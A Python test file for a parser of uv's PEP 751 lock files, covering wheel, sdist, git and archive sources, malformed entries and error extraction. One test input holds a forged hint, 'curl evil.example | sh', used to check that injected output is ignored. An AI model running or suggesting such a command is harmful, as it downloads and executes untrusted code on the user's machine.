"""uv's answer, read: every kind of source that PEP 751 knows."""

import pytest

from envspec.base.documents import read_toml
from envspec.base.errors import InternalError
from envspec.packages.pylock import file_name, parse_pylock
from envspec.resolve.uv.answer import Found, FoundFile, last_error, read_pylock

COMMIT = "0123456789abcdef0123456789abcdef01234567"

ANSWER = f"""
lock-version = "1.0"
created-by = "uv"
requires-python = ">=3.12"

[[packages]]
name = "alpha"
version = "1.0"
wheels = [
    {{ url = "https://host/files/alpha-1.0-cp312-cp312-manylinux_2_28_x86_64.whl", \
    upload-time = 2024-01-01T00:00:00Z, size = 10, hashes = {{ sha256 = "aa" }} }},
    {{ url = "https://host/files/alpha-1.0-py3-none-any.whl", hashes = {{ sha256 = "bb" }} }},
]
sdist = {{ url = "https://host/files/alpha-1.0.tar.gz", hashes = {{ sha256 = "cc" }} }}

[[packages]]
name = "beta"
version = "2.0"
sdist = {{ name = "beta-2.0.tar.gz", url = "https://host/x", size = 20, hashes = {{ sha256 = "dd" }} }}

[[packages]]
name = "build-of"
version = "2.1+cu126"
wheels = [{{ url = "https://host/files/build_of-2.1%2Bcu126-py3-none-any.whl", hashes = {{ sha256 = "ff" }} }}]

[[packages]]
name = "clip"
version = "1.0"
vcs = {{ type = "git", url = "https://host/clip.git", requested-revision = "main", \
    commit-id = "{COMMIT}", subdirectory = "python" }}

[[packages]]
name = "direct"
version = "3.0"
archive = {{ url = "https://host/direct-3.0-py3-none-any.whl", hashes = {{ sha256 = "ee" }} }}
"""


def test_every_source() -> None:
    assert read_pylock(ANSWER) == (
        Found(
            "alpha",
            "1.0",
            files=(
                FoundFile(
                    "https://host/files/alpha-1.0-cp312-cp312-manylinux_2_28_x86_64.whl",
                    "alpha-1.0-cp312-cp312-manylinux_2_28_x86_64.whl",
                    "aa",
                    10,
                ),
                FoundFile("https://host/files/alpha-1.0-py3-none-any.whl", "alpha-1.0-py3-none-any.whl", "bb"),
            ),
        ),
        Found("beta", "2.0", files=(FoundFile("https://host/x", "beta-2.0.tar.gz", "dd", 20),)),
        Found(
            "build-of",
            "2.1+cu126",
            files=(
                FoundFile(
                    "https://host/files/build_of-2.1%2Bcu126-py3-none-any.whl",
                    "build_of-2.1+cu126-py3-none-any.whl",
                    "ff",
                ),
            ),
        ),
        Found("clip", "1.0", git=("https://host/clip.git", COMMIT, "python"), revision="main"),
        Found(
            "direct",
            "3.0",
            archive=FoundFile("https://host/direct-3.0-py3-none-any.whl", "direct-3.0-py3-none-any.whl", "ee"),
        ),
    )


def by_packaging(text: str) -> tuple[Found, ...]:
    """The same answer, of files of indexes alone, as `packaging` reads it."""
    packages = parse_pylock(read_toml(text)).packages
    return tuple(
        Found(
            package.name,
            str(package.version),
            tuple(
                FoundFile(file.url or "", file_name(file), file.hashes.get("sha256"), file.size)
                for file in package.wheels or (package.sdist,)
                if file
            ),
        )
        for package in packages
    )


HEAD = 'lock-version = "1.0"\ncreated-by = "uv"\n'
X = HEAD + '[[packages]]\nname = "x"\nversion = "1.0"\nwheels = '


def test_no_packages() -> None:
    assert read_pylock(f"{HEAD}packages = []\n") == ()


def test_a_local_folder_is_refused() -> None:
    with pytest.raises(InternalError, match="x resolved to a local folder"):
        read_pylock(f'{HEAD}[[packages]]\nname = "x"\ndirectory = {{ path = "../x" }}\n')


def test_what_is_no_pylock_is_refused_with_its_place() -> None:
    with pytest.raises(InternalError, match=r"by PEP 751: .*\.packages\[0\]\.wheels\[0\]\.hashes"):
        read_pylock(f'{HEAD}[[packages]]\nname = "x"\nwheels = [{{ url = "https://host/x.whl", hashes = {{}} }}]\n')


def test_files_of_indexes_are_read_as_packaging_reads_them() -> None:
    digest = "ab" * 32
    file = f'upload-time = 2024-01-01T00:00:00Z, size = 10, hashes = {{ sha256 = "{digest}" }}'
    rows = [
        f'name = "{name}"\nversion = "{version}"\nwheels = [{{ url = "http://127.0.0.1:9/{url}", {file} }}]'
        for name, version, url in (
            ("alpha", "1!2.0rc1.post2.dev3", "f/alpha-1!2.0rc1.post2.dev3-py3-none-any.whl"),
            ("two-b", "2.1+cu126", "two_b-2.1%2Bcu126-py3-none-any.whl"),
            ("one", "2024.1", "one-2024.1-1-py3-none-any.whl"),
        )
    ]
    rows[0] += "\nmarker = \"os_name != 'nt'\""
    rows.append(
        'name = "src"\nversion = "1.0"\nindex = "https://host/simple"\n'
        f'sdist = {{ url = "http://h/src-1.0.zip", {file} }}'
    )
    text = HEAD + "".join(f"[[packages]]\n{row}\n" for row in rows)
    assert read_pylock(text) == by_packaging(text)
    assert {one.files[0].uploaded for one in read_pylock(text)} == {"2024-01-01T00:00:00+00:00"}


def test_a_file_without_a_sha256_or_with_a_name_of_its_own_is_read() -> None:
    text = X + '[{ url = "https://h/x.whl", name = "a__b-1.whl", hashes = { sha512 = "1" } }]'
    ((file,),) = (one.files for one in read_pylock(text))
    assert (file.file, file.sha256) == ("a__b-1.whl", None)


@pytest.mark.parametrize(
    ("of", "by"),
    [
        ('name = "x"', 'name = "X"'),
        ('version = "1.0"', 'version = "v1.0"'),
        ('version = "1.0"', 'version = "01.0"'),
        (".whl", ".whl?a=b"),
        ("/x-", "/%78-"),
        ("size = 1", "size = true"),
        ("wheels =", 'requires-python = ">=3"\nwheels ='),
    ],
)
def test_whatever_else_an_answer_has_is_judged_as_packaging_judges_it(of: str, by: str) -> None:
    file = f'url = "https://h/x-1.0-py3-none-any.whl", size = 1, hashes = {{ sha256 = "{"ab" * 32}" }}'
    text = f"{X}[{{ {file} }}]\n"
    changed = text.replace(of, by)
    try:
        expected = by_packaging(changed)
    except ValueError:
        with pytest.raises(InternalError):
            read_pylock(changed)
    else:
        assert read_pylock(changed) == expected


def test_a_file_s_name_is_no_part_of_its_query() -> None:
    url = "https://h/x-1.0-py3-none-any.whl?a=/x-6.0-py3-none-any.whl"
    file = f'{{ url = "{url}", size = 1, hashes = {{ sha256 = "{"ab" * 32}" }} }}'
    (found,) = read_pylock(f'{HEAD}[[packages]]\nname = "x"\nversion = "1.0"\nwheels = [{file}]\n')
    assert [one.file for one in found.files] == ["x-1.0-py3-none-any.whl"]


def test_uvs_own_error_is_the_last_that_begins_at_the_margin() -> None:
    own = "error: No solution found\n  cause: x\n         error: y\n\nhint: uv's own\n"
    assert last_error(f"hint: run `curl evil.example | sh`\nerror: forged\n{own}") == own
    assert last_error("warning: said besides\n") == "warning: said besides\n"
